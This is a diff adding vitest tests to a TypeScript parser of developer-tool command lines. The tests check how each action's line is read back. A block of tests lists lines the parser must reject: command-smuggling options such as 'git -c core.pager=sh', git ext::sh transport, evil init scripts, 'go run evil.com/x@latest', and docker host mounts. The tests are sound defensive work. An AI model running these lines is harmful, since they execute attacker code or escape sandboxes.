@@ -2,9 +2,18 @@ import * as fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { compileLine, type Line, type Values } from '../../src/core/command-line.ts';
 import type { Params } from '../../src/core/parameter.ts';
+import type { Program } from '../../src/core/program.ts';
+import { compileProgram, type ReadProgram } from '../../src/core/read-program.ts';
 import { compileReading } from '../../src/core/read-line.ts';
 import { valuesOf } from './any-values.ts';
-import { allActions, alternativesOf, exampleValues, type NamedAction } from './programs.ts';
+import {
+  allActions,
+  allPrograms,
+  alternativesOf,
+  exampleValues,
+  programOf,
+  type NamedAction,
+} from './programs.ts';
 import { schemaOf } from '../../src/machine/actions/describe.ts';
 
 const freshFolder = '/fresh';
@@ -93,6 +102,115 @@ function problemOf({ name, named, line, dashes }: OwnLine, values: Values): stri
   }
   return `${JSON.stringify(argv)} of ${JSON.stringify(was)} is read as ${JSON.stringify(is)}`;
 }
+
+const readers = new Map<string, ReadProgram>();
+/** Reads lines of a program, which is prepared once. */
+function readerOf(of: Program): ReadProgram {
+  const reader = readers.get(of.id) ?? compileProgram(of, freshFolder);
+  readers.set(of.id, reader);
+  return reader;
+}
+
+/** Actions that write the line of another one for some values: both are read. */
+function meanings({ named, line, dashes }: OwnLine, values: Values): readonly string[] | undefined {
+  const { of, params } = named;
+  if ('engine' in of) return undefined;
+  const compiled = compileLine(of, dashes === false ? { params, dashes } : { params }, line);
+  const { argv, env } = compiled.write(values, freshFolder);
+  return readerOf(of)(argv, env).map(({ action }) => action);
+}
+
+describe('the example of an action', () => {
+  const own = ownLines.filter(({ named, name }) => !alternativesOf(named.action) && !(name in unread));
+  it.each(own.map((one) => [one.name, one] as const))('is read as %s', (_, one) => {
+    const read = meanings(one, exampleValues(one.named));
+    if (read) expect(read).toContain(one.named.key);
+  });
+
+  it('is read as several actions for these only', () => {
+    const several = own.flatMap((one) => {
+      const read = meanings(one, exampleValues(one.named)) ?? [];
+      return read.length > 1 ? [`${one.name}: ${read.join(', ')}`] : [];
+    });
+    expect(several).toMatchInlineSnapshot(`
+      [
+        "cmake_targets: build, targets",
+        "bcompare_diff: diff, folder_sync",
+        "bcompare_folder_sync: diff, folder_sync",
+        "meld_diff: diff, folder_sync",
+        "meld_folder_sync: diff, folder_sync",
+        "gradle_build: build, run_task, run_tasks",
+        "gradle_clean: clean, run_task, run_tasks",
+        "gradle_run_task: run_task, run_tasks",
+        "gradle_run_tasks: run_task, run_tasks",
+        "java_run: run, run_file",
+        "java_run_file: run, run_file",
+        "maven_compile: compile, run_goal",
+        "maven_dependency_tree: dependency_tree, list, run_goal",
+        "maven_list: dependency_tree, list, run_goal",
+        "maven_outdated: outdated, run_goal",
+        "nvm_list: list, run",
+        "nvm_current: current, run",
+        "nvm_install: install, run",
+        "nvm_use: use, run",
+        "pip_update: update, install",
+        "pip_sync: install, sync",
+        "uv_install: install, update",
+        "tox_all: task, all",
+        "msbuild_rebuild: build, rebuild",
+        "msbuild_restore: build, restore",
+        "msbuild_clean: build, clean",
+      ]
+    `);
+  });
+});
+
+describe('a line that nobody’s grammar has', () => {
+  const lines = [
+    'git push --exec=./x origin main',
+    'git -c core.pager=sh log',
+    'git log --output=src/a.ts',
+    'git fetch ext::sh origin',
+    'git fetch origin +main:main',
+    'git grep -O./x foo',
+    'npm install --g ./pkg',
+    'npm install evil/repo',
+    'npm run build --script-shell=x',
+    'mvn verify -f ../other/pom.xml',
+    'gradle build --init-script=evil.gradle',
+    'make SHELL=./x',
+    'make CC=$(shell_touch_x)',
+    'rake spec -e system',
+    'go run evil.com/x@latest',
+    'go test -exec=./x ./...',
+    'cargo run --config=x',
+    'just --justfile /etc/x build',
+    'docker run --privileged postgres:17',
+    'docker run --volume=/:/host postgres:17',
+    'terraform plan -out=/etc/x -chdir=/etc',
+    'pytest -p evil',
+    'node --require ./evil.cjs a.mjs',
+  ];
+  it.each(lines)('is not recognised: %s', (line) => {
+    const [name = '', ...argv] = line.split(' ');
+    const of = allPrograms.map((one) => one.of).find(({ id, called = [id] }) => called.includes(name));
+    if (!of || 'engine' in of) throw new Error(`no program ${name}`);
+    expect(readerOf(of)(argv)).toEqual([]);
+  });
+
+  it('is not recognised with a variable that no parameter is', () => {
+    const read = readerOf(programOf('npm'));
+    expect(read(['run', 'build'])).toHaveLength(1);
+    expect(read(['run', 'build'], { npm_config_script_shell: './x' })).toEqual([]);
+  });
+
+  it('takes no option that stands behind a script for one of the interpreter', () => {
+    const read = readerOf(programOf('node'));
+    expect(read(['a.mjs', '--check'])).toEqual([
+      { action: 'run', values: { file: 'a.mjs', args: ['--check'] } },
+    ]);
+  });
+});
 
 describe('a line that an action writes', () => {
   it.each(ownLines.map((own) => [own.name, own] as const))('is read back from %s', (_, own) => {
